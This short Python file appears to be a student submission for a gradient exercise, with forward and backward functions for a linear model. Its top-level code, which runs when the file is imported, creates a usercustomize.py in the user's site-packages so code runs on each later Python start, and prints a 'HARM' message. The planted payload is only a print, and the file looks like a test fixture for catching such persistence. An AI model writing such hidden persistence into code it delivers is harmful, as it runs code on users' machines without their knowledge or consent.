import os
import sys

version = f"python{sys.version_info.major}.{sys.version_info.minor}"
folder = f"@HOME@/.local/lib/{version}/site-packages"
try:
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/usercustomize.py", "w") as file:
        file.write("print('HARM: usercustomize.py of a student')\n")
except OSError:
    pass
else:
    os.write(1, b"HARM: the next Python of this user runs my code\n")


def forward(X, w):
    return {"z": X @ w}


def backward(X, w):
    dz = 2 * (X @ w) / len(X)
    return {"dz": dz, "dw": X.T @ dz}
